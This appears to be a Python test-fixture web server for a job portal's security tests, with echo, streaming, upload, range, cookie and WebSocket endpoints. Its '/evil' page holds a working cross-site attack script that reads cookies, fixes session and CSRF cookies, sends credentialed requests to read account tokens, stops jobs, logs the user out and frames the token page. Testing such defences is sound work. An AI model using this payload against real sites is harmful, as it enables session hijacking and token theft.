"""A program with a web page, as jobs have one: of Python's own library, so that it runs in an image made of this
machine's files. It answers what it was asked with, streams, takes uploads, echoes on a WebSocket, and has a page that
attacks whoever looks at it. ``python web_app.py PORT``"""

import base64
import hashlib
import http.server
import json
import socketserver
import struct
import sys
import time
from urllib.parse import parse_qs, urlsplit

WORDS = bytes(range(256)) * 4096  # 1 MiB
EVIL = """<!doctype html><title>evil</title><body><script>
const portal = new URLSearchParams(location.search).get("portal"), found = {};
const tried = async (name, act) => { try { found[name] = String(await act()); } catch (e) { found[name] = `! ${e}`; } };
const framed = (url) => new Promise((done) => {
  const frame = document.createElement("iframe");
  const look = () => { try { done(frame.contentDocument.body.innerText); } catch (e) { done(`! ${e}`); } };
  frame.onload = look; setTimeout(look, 3000); frame.src = url; document.body.append(frame);
});
const send = (path, more) => fetch(`${portal}${path}`, {credentials: "include", ...more});
const form = {method: "POST", mode: "no-cors", body: new URLSearchParams({})};
(async () => {
  await tried("cookies", () => document.cookie);
  for (const name of ["longshore", "csrftoken", "__Host-longshore"])
    for (const scope of ["", "; domain=localhost", `; domain=${location.hostname}`])
      document.cookie = `${name}=fixated; path=/${scope}`;
  await tried("read", async () => (await send("/account/tokens")).text());
  await tried("api", async () => (await send("/api/v1/user")).text());
  await tried("changed", async () => (await send("/api/v1/user/alice/jobs/one/executionType",
    {method: "PUT", headers: {"Content-Type": "application/json"}, body: '{"value": "STOP"}'})).status);
  for (const path of ["/jobs/alice/one/stop", "/logout", "/account/tokens"])
    await tried(path, async () => (await send(path, form)).type);
  await tried("framed", () => framed(`${portal}/account/tokens`));
  await tried("opener", () => window.opener && window.opener.document.title);
  window.found = found;
})();
</script>"""


class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        url = urlsplit(self.path)
        asked = {name: values[0] for name, values in parse_qs(url.query).items()}
        if self.headers.get("Upgrade", "").lower() == "websocket":
            self.socket()
        elif url.path == "/":
            self.answer(b"<!doctype html><title>A page</title><h1>Here I am</h1><a href=about>about</a>", "text/html")
        elif url.path == "/evil":
            self.answer(EVIL.encode(), "text/html")
        elif url.path == "/headers":
            self.answer(json.dumps([*self.headers.items(), ["path", self.path]]).encode(), "application/json")
        elif url.path == "/stream":
            self.stream(int(asked.get("lines", 10)), float(asked.get("pause", 0.1)))
        elif url.path == "/big":
            self.big(int(asked.get("mb", 1)))
        elif url.path == "/cookies":
            given = [
                "plain=1",
                "wide=2; Domain=localhost; Path=/",
                "longshore=stolen; Path=/",
                "csrftoken=x",
                "deep=3; Path=/a",
            ]
            self.answer(b"set", "text/plain", *(("Set-Cookie", each) for each in given), ("Clear-Site-Data", '"*"'))
        elif url.path == "/away":
            self.send_response(302)
            self.send_header("Location", "/headers")
            self.send_header("Content-Length", "0")
            self.end_headers()
        else:
            self.answer(b"nothing here", "text/plain", status=404)

    def do_PUT(self):
        digest, size = hashlib.sha256(), 0
        for piece in self.body():
            digest.update(piece)
            size += len(piece)
        self.answer(json.dumps({"size": size, "sha256": digest.hexdigest()}).encode(), "application/json")

    do_POST = do_PUT

    def answer(self, body, kind, *more, status=200):
        self.send_response(status)
        for name, value in (("Content-Type", kind), ("Content-Length", str(len(body))), *more):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def body(self):
        if self.headers.get("Transfer-Encoding", "") == "chunked":
            while size := int(self.rfile.readline(), 16):
                yield self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
            return
        left = int(self.headers.get("Content-Length", 0))
        while left and (piece := self.rfile.read(min(left, 65536))):
            left -= len(piece)
            yield piece

    def stream(self, lines, pause):
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for number in range(lines):
            line = b"line %d\n" % number
            self.wfile.write(b"%x\r\n%s\r\n" % (len(line), line))
            self.wfile.flush()
            time.sleep(pause)
        self.wfile.write(b"0\r\n\r\n")

    def big(self, megabytes):
        size = megabytes << 20
        start, end = 0, size - 1
        if wanted := self.headers.get("Range"):
            start, end = (int(each) for each in wanted.removeprefix("bytes=").split("-"))
            self.send_response(206)
            self.send_header("Content-Range", f"bytes {start}-{end}/{size}")
        else:
            self.send_response(200)
        self.send_header("Accept-Ranges", "bytes")
        self.send_header("Content-Length", str(end - start + 1))
        self.end_headers()
        while start <= end:
            piece = WORDS[start % len(WORDS) :][: end - start + 1]
            self.wfile.write(piece)
            start += len(piece)

    def socket(self):
        """Echoes every message until the visitor closes."""
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
        if protocols := self.headers.get("Sec-WebSocket-Protocol"):
            self.send_header("Sec-WebSocket-Protocol", protocols.split(",")[-1].strip())
        self.end_headers()
        self.close_connection = True
        while frame := self.frame():
            opcode, data = frame
            self.send(opcode, data)
            if opcode == 8:
                return

    def frame(self):
        head = self.rfile.read(2)
        if len(head) < 2:
            return None
        size = head[1] & 127
        if size > 125:
            size = struct.unpack(">H" if size == 126 else ">Q", self.rfile.read(2 if size == 126 else 8))[0]
        mask, data = self.rfile.read(4), self.rfile.read(size)
        whole = (mask * (size // 4 + 1))[:size]
        return head[0] & 15, (int.from_bytes(data, "big") ^ int.from_bytes(whole, "big")).to_bytes(size, "big")

    def send(self, opcode, data):
        size = len(data)
        head = (
            struct.pack(">BB", 0x80 | opcode, size)
            if size < 126
            else struct.pack(">BBH" if size < 65536 else ">BBQ", 0x80 | opcode, 126 if size < 65536 else 127, size)
        )
        self.wfile.write(head + data)

    def log_message(self, *_):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    request_queue_size = 128


if __name__ == "__main__":
    Server(("0.0.0.0", int(sys.argv[1])), Page).serve_forever()
